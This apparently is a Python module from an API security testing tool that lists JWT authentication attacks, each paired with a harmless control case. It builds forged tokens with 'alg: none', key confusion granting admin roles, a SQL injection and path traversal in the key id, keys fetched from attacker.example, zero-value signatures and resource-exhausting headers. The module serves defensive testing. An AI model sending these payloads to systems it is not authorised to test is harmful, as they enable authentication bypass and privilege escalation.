"""Attacks on authentication, each with its twin: tokens of the catalogue's group J; others have own files."""

import base64
import json
from collections.abc import Callable
from dataclasses import replace
from typing import Final

from doorward.attack.case import Ask, Attack, Family, Samples, Send
from doorward.controls.authenticate import (
    certificate_attacks,
    key_attacks,
    proof_attacks,
    sealed_attacks,
    signature_attacks,
)

_THREAT: Final = "API2:2023 Broken authentication"


def _bearing(samples: Samples, token: str | None) -> Ask | None:
    """The protected request with that token instead of the reader's own."""
    ask = samples.protected()
    if ask is None or token is None:
        return None
    return replace(ask, who="anonymous").with_header("Authorization", f"Bearer {token}")


def _forged(
    *, header: dict[str, object] | None = None, claims: dict[str, object] | None = None, valid_signature: bool = True
) -> Send:
    def send(samples: Samples) -> Ask | None:
        token = samples.forge(header=header or {}, claims=claims or {}, valid_signature=valid_signature)
        return _bearing(samples, token)

    return send


def _tampered(change: Callable[[str], str]) -> Send:
    """The reader's valid token, changed as text."""

    def send(samples: Samples) -> Ask | None:
        token = samples.token("reader")
        return None if token is None else _bearing(samples, change(token))

    return send


def _valid(samples: Samples) -> Ask | None:
    return _bearing(samples, samples.token("reader"))


_extra_claim = _forged(claims={"x_favourite_colour": "green"})
"""The twin of a forged token: as much changed, nothing wrong."""


def _encode(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def _decode(segment: str) -> str:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)).decode()


def _doubled(segment_index: int, member: str, value: str) -> Callable[[str], str]:
    """The token whose header (0) or claims (1) name one member twice."""

    def change(token: str) -> str:
        segments = token.split(".")
        text = _decode(segments[segment_index])
        segments[segment_index] = _encode(f"{text[:-1]},{json.dumps(member)}:{json.dumps(value)}}}")
        return ".".join(segments)

    return change


def _resigned(signature: bytes) -> Callable[[str], str]:
    encoded = base64.urlsafe_b64encode(signature).decode().rstrip("=")
    return lambda token: f"{token.rpartition('.')[0]}.{encoded}"


def _anonymous(samples: Samples) -> Ask | None:
    ask = samples.protected()
    return None if ask is None else replace(ask, who="anonymous")


_attack: Final = Family(control="authenticate", threat=_THREAT, twin=_extra_claim).attack

_J1: Final = "hostile-input catalogue J1; Keycloak CVE-2026-11800, Authlib CVE-2024-37568"
_J2: Final = "hostile-input catalogue J2"
_J3: Final = "hostile-input catalogue J3; Authlib CVE-2026-27962; RFC 8725 section 3.10"
_J4: Final = "hostile-input catalogue J4; CVE-2022-21449"
_J5: Final = "hostile-input catalogue J5; RFC 7519 section 4.1"
_J6: Final = "hostile-input catalogue J6; RFC 8725 sections 3.8 to 3.12; RFC 9068 section 5"
_J7: Final = "hostile-input catalogue J7; Authlib CVE-2025-59420, PyJWT CVE-2026-32597"
_J8: Final = "hostile-input catalogue J8; golang-jwt CVE-2025-30204"

_JWK: Final = {
    "kty": "EC",
    "crv": "P-256",
    "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
    "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0",
}

ATTACKS: Final[tuple[Attack, ...]] = (
    _attack(
        "missing",
        "call a protected operation without any credential",
        "missing",
        "RFC 6750 section 3.1",
        _anonymous,
        lambda samples: samples.protected(),
    ),
    _attack(
        "alg_none",
        "claim that the token needs no signature",
        "token_algorithm",
        _J1,
        _forged(header={"alg": "none"}, valid_signature=False),
    ),
    _attack(
        "alg_none_case",
        "write `none` in odd case",
        "token_algorithm",
        _J1,
        _forged(header={"alg": "NoNe"}, valid_signature=False),
    ),
    _attack(
        "alg_hmac",
        "have the public key used as a shared secret",
        "token_algorithm",
        _J1,
        _forged(header={"alg": "HS256"}, claims={"roles": ["admin"]}, valid_signature=False),
    ),
    _attack("alg_empty", "leave the algorithm empty", "token_algorithm", _J1, _forged(header={"alg": ""})),
    _attack("kid_unknown", "name a key nobody published", "token_key", _J2, _forged(header={"kid": "not-published"})),
    _attack(
        "kid_traversal",
        "name a file as the key",
        "token_key",
        _J2,
        _forged(header={"kid": "../../../../../../dev/null"}),
    ),
    _attack(
        "kid_sql",
        "inject SQL through the key id",
        "token_key",
        _J2,
        _forged(header={"kid": "x' UNION SELECT 'secret' -- "}),
    ),
    _attack("kid_missing", "name no key at all", "token_key", _J2, _forged(header={"kid": None})),
    _attack(
        "jku",
        "have the keys fetched from the attacker",
        "token_reference",
        _J3,
        _forged(header={"jku": "https://attacker.example/jwks.json"}),
    ),
    _attack(
        "x5u",
        "have the certificate fetched from the attacker",
        "token_reference",
        _J3,
        _forged(header={"x5u": "https://attacker.example/cert.pem"}),
    ),
    _attack("jwk", "bring the key along in the header", "token_reference", _J3, _forged(header={"jwk": _JWK})),
    _attack(
        "x5c",
        "bring a certificate along in the header",
        "token_reference",
        _J3,
        _forged(header={"x5c": ["MIIBszCCAVmgAwIBAgIUFakeCertificate"]}),
    ),
    _attack(
        "signature_invalid",
        "change the roles and keep the signature",
        "token_signature",
        _J4,
        _forged(claims={"roles": ["admin"]}, valid_signature=False),
    ),
    _attack(
        "signature_zero",
        "sign with r = s = 0 (psychic signature)",
        "token_signature",
        _J4,
        _tampered(_resigned(bytes(64))),
        _valid,
    ),
    _attack(
        "signature_der",
        "sign in ASN.1 instead of raw bytes",
        "token_signature",
        _J4,
        _tampered(_resigned(bytes.fromhex("3006020101020101"))),
        _valid,
    ),
    _attack(
        "signature_truncated",
        "cut the signature short",
        "token_signature",
        _J4,
        _tampered(lambda token: token[:-8]),
        _valid,
    ),
    _attack(
        "signature_padded",
        "spell the signature with padding",
        "token_signature",
        _J4,
        _tampered(lambda token: token + "=="),
        _valid,
    ),
    _attack(
        "signature_empty",
        "leave the signature away",
        "token_signature",
        _J4,
        _tampered(lambda token: token.rpartition(".")[0] + "."),
        _valid,
    ),
    _attack("expired", "use an expired token", "token_time", _J5, _forged(claims={"exp": 1_000_000_000})),
    _attack("exp_missing", "use a token that never expires", "token_time", _J5, _forged(claims={"exp": None})),
    _attack("iat_missing", "use a token that was issued at no time", "token_time", _J5, _forged(claims={"iat": None})),
    _attack("exp_text", "write the expiry as text", "token_time", _J5, _forged(claims={"exp": "9999999999"})),
    _attack("exp_huge", "write an expiry no date can hold", "token_time", _J5, _forged(claims={"exp": 1e300})),
    _attack("exp_negative", "write an expiry before all time", "token_time", _J5, _forged(claims={"exp": -1})),
    _attack("not_yet", "use a token before its time", "token_time", _J5, _forged(claims={"nbf": 1 << 39})),
    _attack("issued_ahead", "use a token from the future", "token_time", _J5, _forged(claims={"iat": 1 << 39})),
    _attack(
        "issuer_foreign",
        "use a token of another issuer",
        "token_claims",
        _J6,
        _forged(claims={"iss": "https://attacker.example"}),
    ),
    _attack(
        "audience_foreign",
        "use a token made for another API",
        "token_claims",
        _J6,
        _forged(claims={"aud": "another-api"}),
    ),
    _attack("audience_missing", "use a token made for no API", "token_claims", _J6, _forged(claims={"aud": None})),
    _attack("subject_missing", "use a token that names nobody", "token_claims", _J6, _forged(claims={"sub": None})),
    _attack(
        "type_logout",
        "use a logout token as an access token",
        "token_claims",
        _J6,
        _forged(header={"typ": "logout+jwt"}),
    ),
    _attack(
        "id_token", "use an ID token as an access token", "token_claims", _J6, _forged(claims={"nonce": "n-0S6_Wz"})
    ),
    _attack(
        "crit_unknown",
        "demand an extension nobody knows",
        "token_header",
        _J7,
        _forged(header={"crit": ["x-unheard-of"], "x-unheard-of": True}),
    ),
    _attack("b64_false", "sign something else than what is read", "token_header", _J7, _forged(header={"b64": False})),
    _attack(
        "header_duplicate",
        "name the algorithm twice",
        "token_header",
        _J7,
        _tampered(_doubled(0, "alg", "none")),
        _valid,
    ),
    _attack(
        "claim_duplicate", "name the subject twice", "token_header", _J7, _tampered(_doubled(1, "sub", "admin")), _valid
    ),
    _attack(
        "not_json",
        "send a header that is not JSON",
        "token_header",
        _J7,
        _tampered(lambda token: f"{_encode('not json')}.{token.partition('.')[2]}"),
        _valid,
    ),
    _attack(
        "dots",
        "make the parser split on thousands of dots",
        "token_size",
        _J8,
        _tampered(lambda token: token + "." * 7000),
        _valid,
    ),
    _attack(
        "two_parts",
        "send an unsigned half of a token",
        "token_size",
        _J8,
        _tampered(lambda token: token.rpartition(".")[0]),
        _valid,
    ),
    _attack(
        "encrypted_work",
        "have a password derived two billion times",
        "token_size",
        _J8,
        lambda samples: _bearing(
            samples,
            _encode('{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":2147483648,"p2s":"AAAA"}') + ".AA.AA.AA.AA",
        ),
        _valid,
    ),
    _attack(
        "long", "send a token of 10 KiB", "token_size", _J8, lambda samples: _bearing(samples, "A" * 10_240), _valid
    ),
    _attack(
        "revoked",
        "use a token after its revocation",
        "token_revoked",
        "hostile-input catalogue J10",
        lambda samples: samples.lab("token_revoked"),
        _valid,
    ),
    *key_attacks.ATTACKS,
    *proof_attacks.ATTACKS,
    *certificate_attacks.ATTACKS,
    *signature_attacks.ATTACKS,
    *sealed_attacks.ATTACKS,
)
"""All attacks on this control."""
